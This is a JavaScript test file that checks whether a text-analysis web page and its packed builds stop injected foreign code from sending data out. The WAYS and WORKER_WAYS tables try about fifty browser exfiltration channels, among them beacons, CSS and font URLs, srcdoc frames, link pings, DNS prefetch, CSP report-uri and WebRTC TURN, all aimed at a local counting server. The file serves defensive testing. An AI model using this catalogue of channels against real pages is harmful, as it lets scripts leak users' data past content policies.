/**
 * Whether anything can be sent: foreign code in the page and in its workers tries every way there is, while the page reads,
 * takes what is pasted, exports and prints. A server that would be told counts what it is told.
 *
 *     cargo xtask test pack dist
 *
 * What no policy stops is leaving for another page; WebRTC, whose constructors the packed pages take away; and a connection
 * that carries nothing: Chromium opens one to the host that a forbidden frame names, before it looks at the policy.
 *
 * @module
 */

import assert from "node:assert/strict";
import net from "node:net";
import { after, before, describe, test } from "node:test";
import { pathToFileURL } from "node:url";

import { DIST, host, launch } from "./host.mjs";
import { bytesOf } from "./support.mjs";

/** Every way tries once, with its own name in the address, and says nothing of what comes of it. */
const WAYS = /** @type {Record<string, (to: string, add: (tag: string, attributes: Record<string, string>, inside?: Element) => any) => unknown>} */ ({
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  "fetch, kept alive": (to) => fetch(to, { method: "POST", mode: "no-cors", keepalive: true, body: "x" }),
  xhr(to) {
    const request = new XMLHttpRequest();
    request.open("POST", to);
    request.send("x");
  },
  beacon: (to) => navigator.sendBeacon(to, "x"),
  websocket: (to) => new WebSocket(to.replace("http", "ws")),
  "event source": (to) => new EventSource(to),
  "web transport": (to) => new (/** @type {any} */ (window).WebTransport)(to.replace("http", "https")),
  image: (to) => (new Image().src = to),
  "image set": (to, add) => add("img", { srcset: `${to} 1x` }),
  "style of an element": (to, add) => add("div", { class: "leak" }).style.setProperty("background-image", `url("${to}")`),
  "style attribute": (to, add) => add("div", { style: `width:9px;height:9px;background:url("${to}")` }),
  "style element": (to, add) => (add("style", {}).textContent = `@import url("${to}"); body { background: url("${to}&b") }`),
  "made style sheet"(to) {
    const sheet = new CSSStyleSheet();
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return sheet.replace(`body::after { content: url("${to}") }`);
  },
  font: (to) => new FontFace("leak", `url("${to}")`).load(),
  script: (to, add) => add("script", { src: to }),
  "module script": (to, add) => add("script", { type: "module", src: to }),
  import: (to) => import(to),
  "speculation rules": (to, add) => (add("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [to] }] })),
  "link to a style sheet": (to, add) => add("link", { rel: "stylesheet", href: to }),
  prefetch: (to, add) => add("link", { rel: "prefetch", href: to }),
  preload: (to, add) => add("link", { rel: "preload", as: "image", href: to }),
  "module preload": (to, add) => add("link", { rel: "modulepreload", href: to }),
  manifest: (to, add) => add("link", { rel: "manifest", href: to }),
  frame: (to, add) => add("iframe", { src: to }),
  "frame with a page of its own": (to, add) => add("iframe", { srcdoc: `<img src="${to}"><script>fetch("${to}&f")</script>` }),
  "picture in an empty frame": (to, add) => add("img", { src: to }, add("iframe", {}).contentDocument.body),
  object: (to, add) => add("object", { data: to, type: "image/svg+xml" }),
  embed: (to, add) => add("embed", { src: to, type: "image/svg+xml" }),
  form(to, add) {
    const frame = add("iframe", { name: "leak" });
    const form = add("form", { action: to, method: "post", target: frame.name });
    form.submit();
  },
  ping(to, add) {
    const link = add("a", { href: "#", ping: to });
    link.click();
  },
  video: (to, add) => add("video", { src: to, preload: "auto" }).load(),
  poster: (to, add) => add("video", { poster: to }),
  audio: (to) => new Audio(to).load(),
  track: (to, add) => (add("track", { src: to, default: "" }, add("video", {})).track.mode = "showing"),
  "svg picture"(to) {
    const svg = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
    const image = svg.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "image"));
    image.setAttribute("href", to);
  },
  markup: (to) => (document.body.appendChild(document.createElement("div")).innerHTML = `<img src="${to}">`),
  "written markup": (to, add) => add("iframe", {}).contentDocument.write(`<img src="${to}">`),
  worker: (to) => new Worker(to),
  "shared worker": (to) => new SharedWorker(to),
  "worker of its own": (to) => new Worker(URL.createObjectURL(new Blob([`fetch("${to}", { mode: "no-cors" }); importScripts("${to}")`]))),
  "service worker": (to) => navigator.serviceWorker.register(to),
  preconnect: (to, add) => add("link", { rel: "preconnect", href: to }),
  "name of a host": (to, add) => add("link", { rel: "dns-prefetch", href: to }),
  "report of violations"(to, add) {
    add("meta", { "http-equiv": "Content-Security-Policy", content: `manifest-src 'none'; report-uri ${to}` }, document.head);
    add("link", { rel: "manifest", href: to });
  },
  eval: (to) => globalThis.eval(`fetch("${to}", { mode: "no-cors" })`),
  webrtc(to) {
    const { port } = new URL(to);
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "x", credential: "x" }] });
    connection.createDataChannel("x");
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
});

/** The same inside a worker. */
const WORKER_WAYS = /** @type {Record<string, (to: string) => unknown>} */ ({
  "worker: fetch": (to) => fetch(to, { mode: "no-cors" }),
  "worker: xhr"(to) {
    const request = new XMLHttpRequest();
    request.open("POST", to);
    request.send("x");
  },
  "worker: websocket": (to) => new WebSocket(to.replace("http", "ws")),
  "worker: event source": (to) => new EventSource(to),
  "worker: import": (to) => import(to),
  "worker: scripts": (to) => /** @type {any} */ (globalThis).importScripts(to),
  "worker: worker": (to) => new Worker(to),
});

/** @type {import("playwright-core").Browser} */
let browser;
/** @type {net.Server} */
let sink;
/** @type {string[]} what reached the sink, by the way that brought it */
let reached = [];
let to = "";

before(async () => {
  browser = await launch();
  sink = net.createServer((socket) => {
    socket.once("data", (data) => {
      const text = data.toString("latin1");
      const [, way] = /[?&]way=([^ &"]+)/.exec(text) || [];
      reached.push(way ? decodeURIComponent(way) : /^\x16\x03/.test(text) ? "web transport" : "webrtc");
      socket.end("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    });
    socket.on("error", () => {});
  });
  await new Promise((resolve) => sink.listen(0, "127.0.0.1", () => resolve(undefined)));
  to = `http://127.0.0.1:${/** @type {net.AddressInfo} */ (sink.address()).port}/`;
});

after(async () => {
  await browser.close();
  sink.close();
});

/**
 * Tries every way in the page and in its workers. The code comes in past the policy, as through a fault of the page; what it
 * does is under the policy.
 *
 * @param {import("playwright-core").Page} page
 */
async function tryAll(page) {
  const session = await page.context().newCDPSession(page);
  for (const [name, way] of Object.entries(WAYS)) {
    const expression = `(() => {
      const add = (tag, attributes, inside = document.body) => {
        const element = document.createElement(tag);
        for (const name in attributes) element.setAttribute(name, attributes[name]);
        return inside.appendChild(element);
      };
      try {
        Promise.resolve(({ way: ${way.toString().replace(/^("[^"]*"|\w+)\(/, "function (")} }).way(${JSON.stringify(addressOf(name))}, add)).catch(() => {});
      } catch {} // forbidden by an exception: as good as any
    })()`;
    const { exceptionDetails } = await session.send("Runtime.evaluate", { expression, allowUnsafeEvalBlockedByCSP: false });
    assert.equal(exceptionDetails, undefined, `${name}: ${JSON.stringify(exceptionDetails)}`);
  }
  for (const worker of page.workers()) {
    for (const [name, way] of Object.entries(WORKER_WAYS)) {
      await worker.evaluate(`(() => {
        try {
          Promise.resolve(({ way: ${way.toString().replace(/^("[^"]*"|\w+)\(/, "function (")} }).way(${JSON.stringify(addressOf(name))})).catch(() => {});
        } catch {}
      })()`).catch(() => {});
    }
  }
  await session.detach();
}

/** @param {string} way */
const addressOf = (way) => `${to}?way=${encodeURIComponent(way)}`;

/** Long enough for what was begun to get to a server on this machine. @param {import("playwright-core").Page} page */
const settle = (page) => page.waitForTimeout(1500);

/** A page of its own. @param {string} url */
async function visit(url) {
  const context = await browser.newContext({ locale: "zh-CN", acceptDownloads: true });
  const page = await context.newPage();
  await page.goto(url);
  return { page, close: () => context.close() };
}

test("without a policy they arrive, so the server would be told", async () => {
  const site = await host(DIST, { headers: false });
  const { page, close } = await visit(`${site.url}NOTICE.txt`);
  reached = [];
  await tryAll(page);
  await settle(page);
  const ways = new Set(reached);
  assert.ok(ways.size >= 30, `${ways.size} ways: ${[...ways].sort()}; not: ${Object.keys(WAYS).filter((way) => !ways.has(way))}`);
  await close();
  await site.close();
});

for (const [name, open] of Object.entries({
  "the page as it is developed": async () => ({ url: process.env.WENHENG_URL || "http://127.0.0.1:8017/", close: async () => {}, webrtc: true }),
  "the packed page": async () => ({ ...(await host(DIST)), webrtc: false }),
  "the packed page on a host that sends no headers": async () => ({ ...(await host(DIST, { headers: false })), webrtc: false }),
  "the page that is one file": async () => ({ url: pathToFileURL(`${DIST}/wenheng.html`).href, close: async () => {}, webrtc: false }),
})) {
  describe(name, () => {
    test("lets nothing out while it reads, takes what is pasted, exports and prints", async () => {
      const { url, close: shut, webrtc } = await open();
      const { page, close } = await visit(url);
      const text = (await bytesOf("www/sample.txt")).toString("utf8");
      reached = [];

      await page.locator("#editor").fill(text.repeat(40));
      assert.equal(await page.evaluate(() => {
        /** @type {HTMLElement} */ (document.getElementById("analyze")).click();
        return document.documentElement.dataset.state;
      }), "working");
      assert.ok(page.workers().length > 0);
      await tryAll(page);
      await page.locator('html[data-state="ready"]').waitFor({ state: "attached", timeout: 120_000 });

      await page.locator("#new").click();
      await page.evaluate((text) => {
        const data = new DataTransfer();
        data.setData("text/plain", text);
        document.body.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true }));
      }, text);
      await tryAll(page);
      await page.locator("#analyze").click();
      await page.locator('html[data-state="ready"][data-rest="done"]').waitFor({ state: "attached", timeout: 60_000 });

      for (const format of ["json", "xlsx", "html"]) {
        await page.locator("#export > summary").click();
        await Promise.all([page.waitForEvent("download"), page.locator(`#export [data-format="${format}"]`).click()]);
        await tryAll(page);
      }
      await page.evaluate(() => window.dispatchEvent(new Event("beforeprint")));
      await tryAll(page);
      await settle(page);
      assert.equal(await page.locator("#first").count(), 0, "foreign code that cannot be loaded says nothing of the page");
      assert.deepEqual([...new Set(reached)].filter((way) => !(webrtc && way === "webrtc")), []);
      await close();
      await shut();
    });
  });
}

test("the packed pages take WebRTC away before anything else runs", async () => {
  const { page, close } = await visit(pathToFileURL(`${DIST}/wenheng.html`).href);
  assert.deepEqual(await page.evaluate(() => ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel"].filter((name) => name in window)), []);
  assert.match(await page.evaluate(() => (/** @type {Element} */ (document.head.querySelector("script"))).textContent || ""), /RTCPeerConnection/);
  await close();
});
